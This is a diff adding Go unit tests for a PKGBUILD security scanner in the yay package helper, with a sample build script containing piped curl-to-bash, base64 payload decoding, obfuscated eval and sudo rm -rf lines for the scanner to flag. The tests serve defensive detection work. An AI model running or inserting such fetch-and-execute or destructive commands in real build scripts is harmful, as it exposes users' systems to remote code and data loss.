@@ -0,0 +1,144 @@
+package main
+
+import (
+	"io/ioutil"
+	"os"
+	"testing"
+
+	gosrc "github.com/Morganamilo/go-srcinfo"
+	"github.com/stretchr/testify/assert"
+
+	"github.com/Jguer/yay/v10/pkg/dep"
+	"github.com/Jguer/yay/v10/pkg/settings"
+)
+
+func TestScanScript(t *testing.T) {
+	pkgbuild := `pkgname=foo
+# curl https://example.com | sh
+build() {
+  curl -sL https://example.com/setup | bash
+  echo aGVsbG8= | base64 -d > payload
+  eval "$(printf '\x65\x63\x68\x6f')"
+  ln -s /usr/lib/foo.so "$pkgdir/usr/lib/bar.so"
+}
+
+package() {
+  install -Dm755 foo "$pkgdir/usr/bin/foo"
+  install -Dm755 foo /usr/bin/foo
+  echo foo > /etc/foo.conf
+  make PREFIX=/usr DESTDIR="$pkgdir" install 2>&1 >/dev/null
+  sudo rm -rf /opt/foo
+  echo "run sudo make install as root"
+  msg2 'sudo is not needed'
+  make clean && sudo make install
+  version="$(sudo cat /root/version)"
+}
+`
+	type hit struct {
+		Line     int
+		Severity scanSeverity
+	}
+
+	hits := make([]hit, 0)
+	for _, f := range scanScript("foo", "PKGBUILD", []byte(pkgbuild)) {
+		hits = append(hits, hit{f.Line, f.Severity})
+	}
+
+	assert.Equal(t, []hit{
+		{4, scanHigh},
+		{5, scanHigh},
+		{6, scanMedium},
+		{6, scanMedium},
+		{12, scanMedium},
+		{13, scanMedium},
+		{15, scanHigh},
+		{15, scanMedium},
+		{18, scanHigh},
+		{19, scanHigh},
+	}, hits)
+}
+
+func TestCommandNames(t *testing.T) {
+	testCases := []struct {
+		line string
+		want []string
+	}{
+		{`sudo make install`, []string{"sudo"}},
+		{`echo "sudo make install"`, []string{"echo"}},
+		{`msg2 'run sudo'`, []string{"msg2"}},
+		{`if [ -f x ]; then sudo rm x; fi`, []string{"[", "sudo", "fi"}},
+		{`FOO=1 eval "$bar"`, []string{"eval"}},
+		{`x="$(sudo cat /etc/foo)" || true`, []string{"sudo", "true"}},
+		{"echo `sudo id`; sudo", []string{"echo", "sudo", "sudo"}},
+		{`build() {`, []string{"build"}},
+	}
+
+	for _, tc := range testCases {
+		assert.Equal(t, tc.want, commandNames(tc.line), tc.line)
+	}
+}
+
+func TestUnreviewedFindings(t *testing.T) {
+	reviewed := []scanFinding{
+		{"foo", "PKGBUILD", 4, scanHigh, "calls sudo", "sudo make install"},
+		{"foo", "PKGBUILD", 9, scanHigh, "calls sudo", "sudo make install"},
+	}
+	findings := []scanFinding{
+		{"foo", "PKGBUILD", 5, scanHigh, "calls sudo", "sudo make install"},
+		{"foo", "PKGBUILD", 6, scanHigh, "calls sudo", "sudo rm -rf /opt"},
+		{"foo", "foo.install", 2, scanHigh, "calls sudo", "sudo make install"},
+	}
+
+	assert.Equal(t, findings[1:], unreviewedFindings(findings, reviewed))
+	assert.Empty(t, unreviewedFindings(findings[:1], reviewed))
+}
+
+func TestScanPkgbuildsUnreadable(t *testing.T) {
+	dir, err := ioutil.TempDir("", "yay-scan")
+	assert.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	oldConfig := config
+	defer func() { config = oldConfig }()
+	config = settings.MakeConfig()
+	config.Runtime = &settings.Runtime{}
+	config.BuildDir = dir
+
+	bases := []dep.Base{{{Name: "foo", PackageBase: "foo", Version: "1.0-1"}}}
+
+	flagged, err := scanPkgbuilds(bases)
+	assert.NoError(t, err)
+	assert.Equal(t, bases, flagged)
+
+	config.NoConfirm = true
+	_, err = scanPkgbuilds(bases)
+	assert.Error(t, err)
+}
+
+func TestScanSources(t *testing.T) {
+	srcinfo := &gosrc.Srcinfo{}
+	srcinfo.Source = []gosrc.ArchString{
+		{Value: "foo.tar.gz::https://example.com/foo.tar.gz"},
+		{Value: "http://example.com/bar.patch"},
+		{Value: "git+https://example.com/foo.git"},
+		{Value: "foo.install"},
+		{Arch: "x86_64", Value: "https://example.com/foo-x86_64.bin"},
+	}
+	srcinfo.SHA256Sums = []gosrc.ArchString{
+		{Value: "SKIP"},
+		{Value: "0123"},
+		{Value: "SKIP"},
+		{Value: "SKIP"},
+		{Arch: "x86_64", Value: "4567"},
+	}
+
+	reasons := make([]string, 0)
+	for _, f := range scanSources("foo", srcinfo) {
+		reasons = append(reasons, f.Text+": "+f.Reason)
+	}
+
+	assert.Equal(t, []string{
+		"foo.tar.gz::https://example.com/foo.tar.gz: skips the checksum of a remote source",
+		"http://example.com/bar.patch: downloads a source without TLS",
+	}, reasons)
+}